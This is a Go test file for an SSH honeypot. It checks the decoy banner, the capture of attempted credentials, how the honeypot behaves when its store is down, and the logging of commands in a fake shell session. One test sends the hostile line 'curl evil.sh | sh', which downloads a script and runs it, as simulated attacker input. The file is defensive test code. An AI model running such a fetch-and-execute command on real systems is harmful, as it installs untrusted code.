// Copyright 2025 AxonFlow
// SPDX-License-Identifier: BUSL-1.1

package sshpot

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/crypto/ssh"

	"axonflow/honeynet/config"
	"axonflow/honeynet/store"
)

func testConfig() config.SSHConfig {
	return config.SSHConfig{
		Enabled:        true,
		Host:           "127.0.0.1",
		Banner:         "OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
		MaxConnections: 8,
		Timeout:        10,
	}
}

// startTestServer serves on an ephemeral loopback port and tears down with
// the test.
func startTestServer(t *testing.T, rec store.Recorder) string {
	t.Helper()

	srv, err := NewServer(testConfig(), rec)
	require.NoError(t, err)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.Serve(ctx, ln)
	}()
	t.Cleanup(func() {
		cancel()
		<-done
	})

	return ln.Addr().String()
}

func dialTestServer(t *testing.T, addr, username, password string) *ssh.Client {
	t.Helper()
	client, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{
		User:            username,
		Auth:            []ssh.AuthMethod{ssh.Password(password)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         5 * time.Second,
	})
	require.NoError(t, err)
	return client
}

// lockedBuffer collects shell output from a reader goroutine.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestServerVersionBanner checks the identification line advertises the
// configured software.
func TestServerVersionBanner(t *testing.T) {
	addr := startTestServer(t, newFakeRecorder())

	conn, err := net.Dial("tcp", addr)
	require.NoError(t, err)
	defer conn.Close()

	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	line, err := bufio.NewReader(conn).ReadString('\n')
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(line, "SSH-2.0-OpenSSH_8.2p1"), "got banner %q", line)
}

// TestPasswordAlwaysAccepted covers the credential capture path end to end:
// any password logs in, and the attempt is stored with success=true.
func TestPasswordAlwaysAccepted(t *testing.T) {
	rec := newFakeRecorder()
	addr := startTestServer(t, rec)

	client := dialTestServer(t, addr, "admin", "letmein123")
	defer client.Close()

	rec.mu.Lock()
	require.Len(t, rec.attacks, 1)
	attack := rec.attacks[0]
	require.NotNil(t, attack.ThreatType)
	assert.Equal(t, "credential_attack", *attack.ThreatType)
	assert.Equal(t, store.ServiceSSH, attack.Service)
	assert.Equal(t, "admin", attack.Payload["username"])
	assert.Equal(t, len("letmein123"), attack.Payload["password_length"])
	assert.NotContains(t, attack.Payload, "password")

	require.Len(t, rec.credentials, 1)
	cred := rec.credentials[0]
	assert.Equal(t, attack.ID, cred.AttackID)
	assert.Equal(t, "admin", cred.Username)
	assert.Equal(t, "letmein123", cred.Password)
	assert.True(t, cred.Success)
	rec.mu.Unlock()
}

// TestStoreOutageStillAuthenticates verifies deception continues when the
// record store is down.
func TestStoreOutageStillAuthenticates(t *testing.T) {
	rec := newFakeRecorder()
	rec.failInserts = true
	addr := startTestServer(t, rec)

	client := dialTestServer(t, addr, "root", "toor")
	defer client.Close()

	assert.Equal(t, 0, rec.attackCount())
}

// TestInteractiveSession drives a full login, shell, command, logout cycle
// through a real SSH client.
func TestInteractiveSession(t *testing.T) {
	rec := newFakeRecorder()
	addr := startTestServer(t, rec)

	client := dialTestServer(t, addr, "root", "hunter2")
	defer client.Close()

	sess, err := client.NewSession()
	require.NoError(t, err)
	defer sess.Close()

	stdin, err := sess.StdinPipe()
	require.NoError(t, err)
	stdout, err := sess.StdoutPipe()
	require.NoError(t, err)

	out := &lockedBuffer{}
	go io.Copy(out, stdout)

	require.NoError(t, sess.RequestPty("xterm", 40, 120, ssh.TerminalModes{}))
	require.NoError(t, sess.Shell())

	waitFor := func(substr string) {
		require.Eventually(t, func() bool {
			return strings.Contains(out.String(), substr)
		}, 5*time.Second, 20*time.Millisecond, "waiting for %q in output", substr)
	}

	waitFor(prompt)
	io.WriteString(stdin, "whoami\r")
	waitFor("root\r\n")

	io.WriteString(stdin, "curl evil.sh | sh\r")
	waitFor("-bash: curl: command not found")

	io.WriteString(stdin, "exit\r")
	waitFor("logout")

	require.Eventually(t, func() bool {
		rec.mu.Lock()
		defer rec.mu.Unlock()
		for _, s := range rec.sessions {
			return s.EndTime != nil
		}
		return false
	}, 5*time.Second, 20*time.Millisecond, "session must be sealed after exit")

	sess2 := rec.singleSession(t)
	require.Len(t, sess2.Commands, 3)
	assert.Equal(t, "whoami", sess2.Commands[0].Cmd)
	assert.Equal(t, "curl evil.sh | sh", sess2.Commands[1].Cmd)
	assert.Equal(t, "exit", sess2.Commands[2].Cmd)

	rec.mu.Lock()
	require.Len(t, rec.attacks, 1)
	assert.Equal(t, rec.attacks[0].ID, sess2.AttackID, "session must reference the login attack")
	rec.mu.Unlock()
}
